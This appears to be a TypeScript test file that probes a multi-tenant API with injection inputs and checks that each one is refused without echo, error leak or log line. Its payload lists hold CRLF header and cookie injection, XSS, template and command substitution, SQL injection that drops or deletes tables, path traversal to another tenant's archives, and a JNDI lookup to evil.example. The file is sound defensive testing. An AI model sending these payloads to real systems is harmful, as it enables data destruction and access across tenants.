// Text that another reader carries out: line ends for headers and logs, SQL for the object's database, names for R2 and for
// files (C16). It comes in wherever a caller's text goes, with the session of an owner who is allowed to send it.
import assert from "node:assert/strict";
import { devWalletAddress } from "../../dev/solana/accounts.ts";
import type { Answer } from "../support/http.ts";
import { sessionId } from "../support/tokens.ts";
import { type Attack, Battle, check, type Gets } from "./support.ts";

const battle = await Battle.on("injection", "c11 c16");
const { victim, attacker, stack } = battle;
const wallet = await devWalletAddress("owner");
const [snapshot] = await victim.snapshots();
const [{ id: session }] = (await victim.client.get("/v1/auth/sessions")).json().sessions;
const theirs = snapshot?.id ?? "";
const MARK = "injected-mark";
const ID: Gets = [400, "invalid_field", "id"];
const NOT_FOUND: Gets = [404, "not_found"];

/** Refused, and nothing of what was sent stands in the answer, in whatever form. */
function echoless(answer: Answer): void {
  assert.ok(answer.status >= 400 && answer.status < 500, `${answer.status} ${answer.text}`);
  const all = `${JSON.stringify(answer.headers)} ${answer.text}`;
  assert.ok(!all.toLowerCase().includes(MARK), all);
  assert.equal(answer.headers[`x-${MARK}`], undefined);
  assert.deepEqual(answer.setCookies, []);
  assert.doesNotMatch(all, /SQLITE|syntax error|no such column|rusqlite|\.rs:\d/i);
}

// Line ends and control characters in each part of a request that an answer or a log might repeat.
const LINES: [string, string][] = [
  ["CRLF and a header", `%0d%0aX-${MARK}:%201`],
  ["CRLF and a cookie", `%0d%0aSet-Cookie:%20a=${MARK}`],
  ["a line feed and a line of a log", `%0aERROR%20${MARK}`],
  ["a carriage return", `%0d${MARK}`],
  ["line ends of Unicode", `%e2%80%a8${MARK}%c2%85`],
  ["CRLF encoded twice", `%250d%250aX-${MARK}:1`],
  ["CRLF as letters that lose their upper byte", `%e5%98%8d%e5%98%8aX-${MARK}:1`],
  ["a terminal's command", `%1b[31m${MARK}`],
  ["a page", `%3Cscript%3E${MARK}%3C/script%3E`],
];
const PLACES: [string, string, (text: string) => string][] = [
  ["a file of the console", "GET", (text) => `/${text}`],
  ["a route of the API", "GET", (text) => `/v1/${text}`],
  ["an asset", "GET", (text) => `/v1/agents/${text}`],
  ["a route of an agent", "POST", (text) => `${attacker.path}/${text}`],
  ["a snapshot", "GET", (text) => `${attacker.path}/snapshots/${text}`],
  ["a secret's name", "DELETE", (text) => `${attacker.path}/secrets/${text}`],
  ["a session", "DELETE", (text) => `/v1/auth/sessions/${text}`],
];
battle.all(
  PLACES.flatMap(([place, method, path]) =>
    LINES.map(
      ([what, text]): Attack => ({
        name: `${what} as ${place}`,
        method,
        path: path(text),
        as: attacker,
        gets: echoless,
      }),
    ),
  ),
);

// In fields of JSON.
const FIELDS: [string, string][] = [
  ["CRLF and a header", `x\r\nX-${MARK}: 1`],
  ["NUL", `x\0${MARK}`],
  ["a page", `<img src=x onerror=${MARK}>`],
  ["a template", `{{${MARK}}}\${${MARK}}<%=${MARK}%>`],
  ["a variable of the configuration", `\${${MARK}}`],
  ["a lookup", `\${jndi:ldap://evil.example/${MARK}}`],
  ["a command", `$(${MARK})\`${MARK}\`; ${MARK} | ${MARK}`],
  ["SQL", `${MARK}'); DROP TABLE sessions; --`],
  ["a path", `../../../../${MARK}`],
  ["a mark of direction", `\u202e${MARK}`],
];
const INTO: [string, string, (text: string) => Pick<Attack, "method" | "path" | "json">][] = [
  ["an asset", "asset", (text) => ({ method: "POST", path: "/v1/auth/challenge", json: { asset: text, wallet } })],
  [
    "a wallet",
    "wallet",
    (text) => ({ method: "POST", path: "/v1/auth/challenge", json: { asset: victim.asset, wallet: text } }),
  ],
  ["a nonce", "nonce", (text) => ({ method: "POST", path: "/v1/auth/verify", json: { nonce: text, signature: "x" } })],
  ["a secret", "value", (text) => ({ method: "PUT", path: `${attacker.path}/secrets/openai`, json: { value: text } })],
  [
    "a model",
    "model",
    (text) => ({ method: "PUT", path: `${attacker.path}/settings`, json: { model: `openai/${text}` } }),
  ],
  [
    "a provider",
    "keyless",
    (text) => ({ method: "PUT", path: `${attacker.path}/settings`, json: { keyless: [text] } }),
  ],
];
battle.all(
  INTO.flatMap(([place, field, sent]) =>
    // A key may be any text without control characters, a path too.
    FIELDS.filter(([what]) => !(place === "a secret" && what === "a path")).map(
      ([what, text]): Attack => ({
        name: `${what} as ${place} in JSON`,
        as: attacker,
        ...sent(text),
        gets(answer) {
          echoless(answer);
          assert.ok([400, 422].includes(answer.status), answer.text);
          assert.equal(answer.json().field, field);
        },
      }),
    ),
  ),
);

// In headers that are read.
const upload = (name: string, headers: Record<string, string>, gets: Gets): Attack => ({
  name: `an upload ${name}`,
  method: "POST",
  path: `${attacker.path}/snapshots`,
  as: attacker,
  headers: { "content-type": "application/zstd", ...headers },
  body: "x",
  gets,
});
const digest = (value: string): Record<string, string> => ({ "repr-digest": value });
battle.all([
  upload("with another type and a mark", { "content-type": `text/${MARK}` }, [415, "unsupported_media_type"]),
  upload("without a hash", {}, [400, "invalid_field", "repr-digest"]),
  upload("with a path as its hash", digest(`sha-256=:../../${MARK}:`), [400, "invalid_field", "repr-digest"]),
  upload("with SQL as its hash", digest("sha-256=:' OR 1=1; --:"), [400, "invalid_field", "repr-digest"]),
  upload("with another hash", digest(`sha-512=:${"A".repeat(86)}==:`), [400, "invalid_field", "repr-digest"]),
  upload("with a short hash", digest("sha-256=:AAAA:"), [400, "invalid_field", "repr-digest"]),
  upload("with a hash of 60 KB", digest(`sha-256=:${"A".repeat(8_000)}:`), [400, "invalid_field", "repr-digest"]),
]);

// Names of archives: one that is not 32 hexadecimal digits is looked for nowhere.
const archive = (name: string, id: string, gets: Gets = ID, method = "GET"): Attack => ({
  name: `an archive ${name}`,
  method,
  path: `${attacker.path}/snapshots/${id}`,
  as: attacker,
  gets,
});
const key = `tenants/${victim.asset}/${wallet}/snapshots/${theirs}`;
battle.all([
  archive("of another tenant, by its name", theirs, NOT_FOUND),
  archive("of another tenant, deleted by its name", theirs, NOT_FOUND, "DELETE"),
  archive("of another tenant, by its key", encodeURIComponent(key)),
  archive("of another tenant, by its key from above", encodeURIComponent(`../../../../${key}`)),
  archive("of another tenant, deleted by its key", encodeURIComponent(`../../../../${key}`), ID, "DELETE"),
  archive("above its folder", encodeURIComponent(".."), NOT_FOUND),
  archive("above its folder and back", encodeURIComponent(`../snapshots/${theirs}`)),
  archive("by a backslash", encodeURIComponent(`..\\snapshots\\${theirs}`)),
  archive("in upper case", theirs.toUpperCase().replace(/^./, "A")),
  archive("cut by one", theirs.slice(1)),
  archive("longer by one", `${theirs}0`),
  archive("with a blank", `${theirs}%20`),
  archive("with NUL", `${theirs}%00`),
  archive("with NUL inside", `${theirs.slice(0, 16)}%00${theirs.slice(17)}`),
  archive("by a pattern of SQL", "%25"),
  archive("by a pattern of one letter each", "_".repeat(32)),
  archive("by a pattern of files", "*"),
  archive("by a condition", encodeURIComponent("' OR '1'='1")),
  archive("by a union", encodeURIComponent("x' UNION SELECT id FROM snapshots --")),
  archive("by two statements", encodeURIComponent("x'; DELETE FROM snapshots; --"), ID, "DELETE"),
  archive("by a number", "0"),
  archive("by the word for the newest", "latest"),
  archive("by digits of another script", encodeURIComponent("\uff11".repeat(32))),
  archive("by an id in braces", encodeURIComponent(`{${theirs}}`)),
  archive("by 15,000 letters", "a".repeat(15_000)),
  archive("by the folder of packs", encodeURIComponent(`../chunks/${sessionId()}`)),
]);
battle.attack("an archive of another tenant, restored by its name", async () => {
  check(
    await battle.send({ method: "POST", path: `${attacker.path}/snapshots/${theirs}/restore`, as: attacker }),
    NOT_FOUND,
  );
});

// Names of secrets: there are those of the catalogue.
const NAMES = [
  "OPENAI",
  "openai%00",
  "openai%20",
  "open%61i%2f..",
  "..%2fsecrets%2fopenai",
  "__proto__",
  "constructor",
  "JWT_SECRET",
  "jwt",
  "sealing",
  "OPENAI_API_KEY",
  "gateway",
  "*",
  "%25",
  encodeURIComponent("x' OR '1'='1"),
  encodeURIComponent("x'; DROP TABLE secrets; --"),
  "openai,anthropic",
  "%6fpenai",
];
battle.all(
  NAMES.map(
    (name): Attack => ({
      name: `a secret named ${name}`,
      method: "PUT",
      path: `${attacker.path}/secrets/${name}`,
      json: { value: "sk-of-the-attacker-0123456789abcdef" },
      as: attacker,
      gets: NOT_FOUND,
    }),
  ),
);

// Names of sessions.
battle.all(
  (
    [
      ["by a condition", encodeURIComponent("' OR '1'='1")],
      ["by a pattern", "%25"],
      ["in upper case", String(session).toUpperCase().replace(/^./, "A")],
      ["all of them by a star", "*"],
      ["by its own kind's name", "current"],
      ["by two statements", encodeURIComponent("x'; DELETE FROM sessions; --")],
    ] as const
  ).map(
    ([name, id]): Attack => ({
      name: `a session ${name}`,
      method: "DELETE",
      path: `/v1/auth/sessions/${id}`,
      as: attacker,
      gets: ID,
    }),
  ),
);
battle.attack("a session of another owner by its name", async () => {
  check(await battle.send({ method: "DELETE", path: `/v1/auth/sessions/${session}`, as: attacker }), NOT_FOUND);
});
battle.attack("no line of any log was written by a caller", async () => {
  assert.deepEqual(
    stack.logs.filter((line) => /^ERROR injected-mark/i.test(line)),
    [],
  );
});

battle.afterwards();
